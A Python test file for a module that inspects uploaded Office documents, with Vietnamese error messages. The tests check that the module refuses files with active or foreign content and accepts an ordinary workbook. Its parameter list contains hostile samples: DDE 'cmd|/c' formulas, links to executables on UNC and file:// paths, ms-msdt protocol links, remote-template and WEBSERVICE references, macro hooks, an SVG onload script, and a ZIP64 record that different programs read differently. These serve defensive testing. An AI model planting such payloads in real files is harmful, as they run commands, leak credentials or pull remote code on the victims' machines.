"""Office files have the parts, links and fields of ordinary ones; everything else is refused."""

from __future__ import annotations

import io
import struct

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.comments import Comment
from openpyxl.drawing.image import Image as Picture

from core.errors import InvalidInput
from tests.core.foreign_files.test_active_content import ELSEWHERE, rels
from tests.core.foreign_files.test_inspection import archive, image, inspect_bytes

FOREIGN_PART = "mà văn bản thông thường không có"
LINK = b'<w:fldSimple w:instr="HYPERLINK %s"/>'
SLIDE = b'<p><a:hlinkMouseOver action="ppaction://%s"/></p>'
SHEET = "xl/worksheets/sheet1.xml"
#: Everything that ordinary files do not have.
OTHERS: list[tuple[dict[str, bytes], str]] = [
    ({SHEET: b"<c><f>cmd|&apos;/c echo &apos;&apos;a&apos;&apos;&apos;!A1</f></c>"}, ELSEWHERE),
    ({SHEET: b"<c><f>&apos;cmd&apos;|&apos;/c calc&apos;!A1</f></c>"}, ELSEWHERE),
    ({SHEET: b'<c><f>HYPERLINK("\\\\203.0.113.9\\s\\x.exe","Xem")</f></c>'}, ELSEWHERE),
    ({SHEET: b'<c><f>HYPERLINK("fi"&amp;"le://203.0.113.9")</f></c>'}, ELSEWHERE),
    ({"word/settings.xml": b'<w:mailMerge><w:connectString w:val="x"/></w:mailMerge>'}, ELSEWHERE),
    (
        {"xl/connections.xml": b'<connections><connection odcFile="x" refreshOnLoad="1"/></connections>'},
        ELSEWHERE,
    ),
    ({"customXml/item1.xml": b"<DataMashup>UEsDBA==</DataMashup>"}, ELSEWHERE),
    ({"word/document.xml": LINK % b"file://203.0.113.9/s/x.exe"}, ELSEWHERE),
    ({"word/document.xml": LINK % b"&quot;\\\\\\\\203.0.113.9\\\\s&quot;"}, ELSEWHERE),
    ({"word/document.xml": LINK % b"\\t &quot;_blank&quot; &quot;ms-msdt:/id x&quot;"}, ELSEWHERE),
    ({"word/document.xml": LINK % b"\\s &quot;file://203.0.113.9/s/x.exe&quot;"}, ELSEWHERE),
    ({"word/document.xml": LINK % b"&quot;#a&quot; \\t &quot;file://203.0.113.9/s&quot;"}, ELSEWHERE),
    ({SHEET: b"<c><f>&apos;\\\\203.0.113.9\\s\\[x.xlsx]S&apos;!A1</f></c>"}, ELSEWHERE),
    ({"word/document.xml": b"<w:instrText>MACROBUTTON AutoOpen x</w:instrText>"}, ELSEWHERE),
    (
        {
            "word/document.xml": (
                b'<p><w:fldChar w:fldCharType="begin"/><w:instrText>HYPERLINK </w:instrText>'
                b'<w:fldChar w:fldCharType="begin"/>'
                b'<w:instrText>QUOTE 68 </w:instrText><w:fldChar w:fldCharType="end"/>'
                b'<w:fldChar w:fldCharType="end"/></p>'
            )
        },
        ELSEWHERE,
    ),
    ({"word/_rels/document.xml.rels": rels("hyperlink", "%5C%5C203.0.113.9%5Cs")}, ELSEWHERE),
    (
        {"word/_rels/settings.xml.rels": rels("attachedTemplate#/hyperlink", "http://x.example/t.dotm")},
        FOREIGN_PART,
    ),
    ({"word/_rels/document.xml.rels": rels("customControl", "a.xml", external=False)}, FOREIGN_PART),
    (
        {"[Content_Types].xml": b'<Types><Override ContentType="application/x-msdownload"/></Types>'},
        FOREIGN_PART,
    ),
    ({"xl/drawings/drawing1.xml": b'<xdr:sp macro="[0]!A" textlink=""/>'}, "macro"),
    ({"xl/drawings/drawing1.xml": b'<xdr:sp macro="" textlink="[1]S!A1"/>'}, ELSEWHERE),
    (
        {"xl/drawings/vmlDrawing1.vml": b"<x:ClientData><x:FmlaMacro>[0]!A</x:FmlaMacro></x:ClientData>"},
        "macro",
    ),
    (
        {"xl/drawings/vmlDrawing1.vml": b"<x:ClientData><x:ScriptText>a</x:ScriptText></x:ClientData>"},
        "macro",
    ),
    (
        {"xl/drawings/vmlDrawing1.vml": b"<x:ClientData><x:FmlaLink>[1]S!A1</x:FmlaLink></x:ClientData>"},
        ELSEWHERE,
    ),
    ({"xl/drawings/vmlDrawing1.vml": b'<v:shape href="file://203.0.113.9/s"/>'}, ELSEWHERE),
    (
        {"xl/tables/table1.xml": b"<calculatedColumnFormula>WEBSERVICE(A1)</calculatedColumnFormula>"},
        ELSEWHERE,
    ),
    ({"xl/tables/table1.xml": b"<totalsRowFormula>WEBSERVICE(A1)</totalsRowFormula>"}, ELSEWHERE),
    (
        {"xl/pivotCache/pivotCacheDefinition1.xml": b'<cacheField name="a" formula="WEBSERVICE(A1)"/>'},
        ELSEWHERE,
    ),
    ({"xl/ctrlProps/ctrlProp1.xml": b'<formControlPr fmlaLink="[1]S!A1"/>'}, ELSEWHERE),
    ({SHEET: b'<cfvo type="formula" val="WEBSERVICE(A1)"/>'}, ELSEWHERE),
    ({SHEET: b'<webPublishItems><webPublishItem destinationFile="a.htm"/></webPublishItems>'}, ELSEWHERE),
    ({"word/document.xml": LINK % "“file://203.0.113.9/s/x.exe”".encode()}, ELSEWHERE),
    ({"word/document.xml": LINK % "\\t “_blank” “ms-msdt:/id x”".encode()}, ELSEWHERE),
    ({"word/document.xml": LINK % b"&quot;ms.x-y+z:a&quot;"}, ELSEWHERE),
    ({"word/document.xml": b'<wp15:webVideoPr embeddedHtml="&lt;script&gt;"/>'}, "đối tượng nhúng"),
    ({"ppt/slides/slide1.xml": SLIDE % b"program"}, "macro"),
    ({"ppt/slides/slide1.xml": SLIDE % b"macro?name=x"}, "macro"),
    ({"customUI/customUI.xml": b"<x/>"}, FOREIGN_PART),
    ({"word/customUI.xml": b'<customUI onLoad="x"/>'}, "macro"),
    ({"word/document2.bin": b"x"}, FOREIGN_PART),
    ({"word/media/a.url": b"[InternetShortcut]"}, FOREIGN_PART),
    ({"word/media/a.png": b"7z\xbc\xaf\x27\x1c" + bytes(50)}, FOREIGN_PART),
    ({"word/media/a.svg": b'<svg onload="alert(1)"/>'}, "đối tượng nhúng"),
    ({"word/embeddings/a.xlsx": b"no archive"}, "đối tượng nhúng"),
    ({"word/embeddings/a.xlsx": b"AA" + archive(main="xl/workbook.xml")}, "đối tượng nhúng"),
    ({"word/styles.xml": '<?xml version="1.0" encoding="cp037"?><a/>'.encode("cp037")}, "hỏng"),
    ({"word/styles.xml": b'<?xml version="1.0" encoding="ISO-8859-1"?><a/>'}, "hỏng"),
]


@pytest.mark.parametrize(("parts", "message"), OTHERS)
def test_what_ordinary_office_files_do_not_have_is_refused(parts: dict[str, bytes], message: str) -> None:
    with pytest.raises(InvalidInput, match=message):
        inspect_bytes("don.docx", archive(parts))


def _with_comment() -> bytes:
    return archive()[:-2] + b"\x02\x00ab"


def _with_larger_record() -> bytes:
    """Return an archive that Python reads by its larger record, and other programs by the usual one."""
    data = archive()
    end = data[-22:]
    count, length, start = struct.unpack("<HII", end[10:20])
    at = len(data) - 22
    larger = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, length, start)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, at, 1)
    # The usual record counts both as a part of its directory.
    return data[:-22] + larger + locator + end[:12] + struct.pack("<I", length + 76) + end[16:]


@pytest.mark.parametrize(
    "data",
    [_with_comment(), _with_larger_record(), archive() + archive(), archive() + bytes(9), b"\n" + archive()],
)
def test_archive_with_anything_other_than_its_parts_is_refused(data: bytes) -> None:
    with pytest.raises(InvalidInput):
        inspect_bytes("don.docx", data)


def test_workbook_of_a_library_is_accepted() -> None:
    book, out = openpyxl.Workbook(), io.BytesIO()
    sheet = book.active
    for number in range(5):
        sheet.append([number, '=HYPERLINK("https://example.vn","Xem")', "=SUM(A1:A2)", "=INDIRECT(A1)"])
    figures = BarChart()
    figures.add_data(Reference(sheet, min_col=1, min_row=1, max_row=5))
    sheet.add_chart(figures)
    sheet["A1"].comment = Comment("Ghi chú", "An")
    sheet["D1"].hyperlink = "https://example.vn"
    sheet.add_image(Picture(io.BytesIO(image("PNG"))), "E5")
    book.save(out)
    assert inspect_bytes("bang.xlsx", out.getvalue()).name == "bang.xlsx"
